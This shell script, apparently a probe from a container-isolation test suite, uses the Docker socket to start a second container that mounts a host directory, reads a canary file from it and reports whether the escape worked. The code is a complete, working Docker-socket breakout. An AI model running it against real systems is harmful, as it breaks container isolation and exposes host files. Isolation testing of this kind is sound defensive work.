#!/bin/sh
# Asks the engine, over its socket, for a second container that mounts a directory of the host.
# probe DIRECTORY-OF-THE-HOST NAME
socket=/var/run/docker.sock
for place in /host/run/docker.sock /host/var/run/docker.sock /host/docker.sock; do
	[ ! -e "$place" ] || socket=$place
done
out=$(perl -MIO::Socket::UNIX -e '
	my ($directory, $name, $socket) = @ARGV;
	sub ask {
		my ($method, $path, $body) = @_;
		my $engine = IO::Socket::UNIX->new(Peer => $socket) or do { print "connect: $!\n"; exit 1 };
		print $engine "$method $path HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: ", length($body), "\r\n\r\n$body";
		local $/;
		my (undef, $answer) = split /\r\n\r\n/, <$engine>, 2;
		return $answer;
	}
	my $made = ask("POST", "/containers/create?name=$name", qq({"Image":"ironhull/attacker:1","Cmd":["cat","/host/canary.txt"],"Tty":true,"HostConfig":{"Binds":["$directory:/host"],"NetworkMode":"none"}}));
	my ($id) = $made =~ /"Id":"([0-9a-f]+)"/ or do { print "the engine refuses: $made"; exit 1 };
	print "the engine made a second container\n";
	ask("POST", "/containers/$id/start", "");
	ask("POST", "/containers/$id/wait", "");
	print "it read on the host: ", ask("GET", "/containers/$id/logs?stdout=1&stderr=1", "");
	ask("DELETE", "/containers/$id?force=1", "");
' "$1" "$2" "$socket" 2>&1)
echo "$out"
case $out in
*'canary of the host'*) echo 'OUTCOME through' ;;
*'Permission denied'*)
	# In a user namespace, groups of the container are none of the host's.
	if [ "$(id -G | wc -w)" -gt 1 ] && grep -q '^ *0 *0 ' /proc/self/uid_map; then
		echo "groups of the process: $(id -G); owner of the socket: $(stat -c '%u:%g, mode %a' "$socket")"
		echo 'OUTCOME partly'
	else
		echo 'OUTCOME stopped'
	fi
	;;
*'No such file'*) echo 'OUTCOME stopped' ;;
esac
